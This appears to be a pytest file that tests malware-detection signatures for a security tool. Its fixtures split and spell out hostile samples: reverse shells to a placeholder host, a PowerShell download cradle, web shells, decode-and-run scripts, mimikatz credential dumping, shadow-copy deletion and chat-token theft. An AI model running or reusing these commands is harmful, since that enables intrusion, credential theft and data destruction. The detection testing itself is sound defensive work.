"""Our signatures, asked by the real yara-x: each matches what it describes, and nothing that only talks about it."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

import sdlc
from sdlc.antivirus.patterns import Patterns, load_patterns
from sdlc.errors import ToolError

FOLDER = Path(sdlc.__file__).parent / "rules" / "malware"
TEXTS = {path.name: path.read_bytes() for path in FOLDER.glob("*.yar")}
EICAR = b"X5O!P%@AP[4" + b"\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD" + b"-ANTIVIRUS-TEST-FILE!$H+H*"
SHELL_CODE = bytes.fromhex("fc4883e4f0e8c00000004151415052515648")


@pytest.fixture(scope="module")
def patterns() -> Patterns:
    return load_patterns(TEXTS)


MATCHES = {
    "the EICAR test file": [EICAR, b"a comment\n" + EICAR + b"\n"],
    "a command that gives a shell to another machine": [
        b"bash -i >& /dev/" + b"tcp/index.example/4444 0>&1",
        b"perl -MIO -e 'use " + b"Socket;$i=1;socket(S);exec" + b'("/bin/sh -i");\'',
        b"$s=fsock" + b'open("index.example",1);exec("/bin/sh -i <&3");',
        b"ruby -rsocket -e'f=TCPSocket.open(1);" + b'exec sprintf("/bin/sh")\'',
    ],
    "a coded command for PowerShell": [
        b"powershell.exe -nop -w hidden -" + b"enc " + base64.b64encode(b"\0" * 90),
        b"IEX (New-Object " + b"Net.WebClient).DownloadString('http://index.example/a')",
    ],
    "a web shell": [
        b"<?php ev" + b"al(base64_decode($_POST['x'])); ?>",
        b"<?php system($_" + b"GET['c']);",
        b"<% Runtime.getRuntime().exec(request" + b'.getParameter("c")); %>',
        b"<% ev" + b'al request("c") %>',
    ],
    "a script that runs what it decodes": [
        b"ev" + b"al(atob('YWxlcnQoMSk='))",
        b"ev" + b"al(Buffer.from(x, 'base64').toString())",
        b"echo aWQ= | base64 " + b"-d | sh",
    ],
    "a program that mines coins": [b'{"url": "strat' + b'um+tcp://index.example:3333", "donate' + b'-level": 1}'],
    "code that is put into other processes": [
        b"\0\0" + SHELL_CODE,
        b'buf = b"' + b"".join(b"\\x%02x" % one for one in SHELL_CODE) + b'"',
        base64.b64encode(SHELL_CODE),
    ],
    "a command that deletes the copies a restore needs": [b"vssadmin.exe Delete " + b"Shadows /All /Quiet"],
    "a tool that reads the passwords of Windows": [b"sekur" + b"lsa::logonpasswords"],
    "a search for the tokens of a chat program": [
        rb"re.findall(r'[\w-]{24}" + rb"\.[\w-]{6}\.[\w-]{27}', open(p + '/Local Storage/leveldb'))"
    ],
    "a packed program, whose code nobody can read": [b"\x7fELF" + b"\0" * 200 + b"UP" + b"X!" + b"\0" * 20],
}

SILENT = [
    b"The EICAR test file is a file for tests of virus scanners: EICAR-STANDARD" + b"-ANTIVIRUS-TEST-FILE!",
    b"bash -i opens an interactive shell; /dev/tcp is a feature of bash\n",
    b"powershell -File build.ps1 -encoding utf8\n",
    b"<?php echo htmlspecialchars($_GET['name']); system('ls'); ?>",
    b"&lt;?php system($_" + b"GET['c']); ?&gt; is the example of a weakness",
    b"const text = atob(value); evaluate(text)\n",
    b"base64 -d key.txt > key.bin\n",
    b"the stratum of the cache\n",
    b"vssadmin list shadows\n",
    b"\x7fELF" + b"\0" * 2000 + b"UP" + b"X!",
    b"",
]


@pytest.mark.parametrize(("title", "data"), [(title, one) for title, every in MATCHES.items() for one in every])
def test_a_signature_matches(patterns: Patterns, title: str, data: bytes) -> None:
    assert patterns.ask(data) == (title,)


@pytest.mark.parametrize("data", SILENT)
def test_what_only_talks_about_it(patterns: Patterns, data: bytes) -> None:
    assert patterns.ask(data) == ()


def test_every_signature_has_a_sample(patterns: Patterns) -> None:
    assert patterns.number == len(MATCHES)


def test_the_signatures_do_not_match_their_own_text(patterns: Patterns) -> None:
    assert [patterns.ask(text) for text in TEXTS.values()] == [()] * len(TEXTS)


def test_nothing_of_ours_holds_the_test_file_in_one_piece() -> None:
    repository = Path(__file__).parents[2]
    folders = ("sdlc", "rules", "tests", "docs", "examples", "fuzz")
    files = [path for folder in folders for path in (repository / folder).rglob("*") if path.is_file()]
    assert len(files) > 500
    assert [path for path in files if EICAR in path.read_bytes()] == []


def test_version_date_and_digest(patterns: Patterns) -> None:
    assert patterns.date.year >= 2026
    assert patterns.version.count(".") == 2
    changed = load_patterns({name: text + b"\n// more\n" for name, text in TEXTS.items()})
    assert changed.digest != patterns.digest


@pytest.mark.parametrize(
    ("text", "says"),
    [
        (b"rule x { condition: nothing }", "own.yar: "),
        (b"\xff", "own.yar: "),
        (b"rule x { condition: true }", "states no date"),
        (b'rule x { meta: date = "yesterday" condition: true }', "states no date"),
        (b"", "states no date"),
    ],
)
def test_signatures_that_are_none(text: bytes, says: str) -> None:
    with pytest.raises(ToolError, match=says):
        load_patterns({"own.yar": text})
